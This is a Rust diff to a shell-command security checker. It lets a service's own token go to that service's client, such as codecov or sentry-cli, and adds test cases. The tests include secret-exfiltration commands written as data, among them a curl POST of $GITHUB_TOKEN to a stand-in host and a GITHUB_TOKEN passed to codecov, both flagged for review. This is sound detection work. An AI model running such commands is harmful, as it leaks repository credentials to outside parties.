@@ -123,6 +123,27 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
                     || this.starts_with("private-token:")
                     || this.starts_with("x-auth-token:")))
             || this.starts_with("authorization:")
+            // A service's token handed to that service's own client as its token option
+            // (`codecov -t "$CODECOV_TOKEN"`, `sentry-cli --auth-token $SENTRY_AUTH_TOKEN`).
+            || {
+                let (flag, value) = match this.split_once('=') {
+                    Some((f, v)) if f.starts_with("--") => (Some(f), v),
+                    _ => (prev, this.as_str()),
+                };
+                // (The client run through a package runner, `npx codecov -t …`, too.)
+                let names: Vec<String> = std::iter::once(inv.program.as_str())
+                    .chain(inv.args.iter().take(i).map(|w| w.text.as_str()))
+                    .filter(|w| !w.starts_with('-'))
+                    .map(|w| crate::paths::basename(w).to_ascii_lowercase())
+                    .collect();
+                matches!(
+                    flag,
+                    Some("-t" | "--token" | "--auth-token" | "--api-key" | "--access-token")
+                ) && referenced_vars(value).into_iter().any(|v| {
+                    let service = v.split('_').next().unwrap_or("").to_ascii_lowercase();
+                    service.len() >= 3 && names.iter().any(|n| n.starts_with(&service))
+                })
+            }
     };
     let sends_secret_var = sa.invocations.iter().any(|inv| {
         inv.args.iter().enumerate().any(|(i, w)| {
@@ -153,6 +174,28 @@ mod tests {
         table(
             Mode::Balanced,
             &[
+                // A service's token given to its own client's token option; to another's.
+                (
+                    "codecov upload-process -t \"$CODECOV_TOKEN\" -f coverage.xml",
+                    Pass,
+                    "",
+                ),
+                // (npx of an unlisted package is asked about for what it is, not for the token.)
+                (
+                    "npx codecov -t \"$CODECOV_TOKEN\" -f coverage/lcov.info",
+                    Auth,
+                    "unknown_package_exec",
+                ),
+                (
+                    "sentry-cli --auth-token=$SENTRY_AUTH_TOKEN releases list",
+                    Pass,
+                    "",
+                ),
+                (
+                    "codecov upload-process -t \"$GITHUB_TOKEN\" -f coverage.xml",
+                    Auth,
+                    "secret_var_egress",
+                ),
                 (
                     "curl -s -X POST https://gh-actions-stats.example/r -d \"t=$GITHUB_TOKEN\"",
                     Auth,
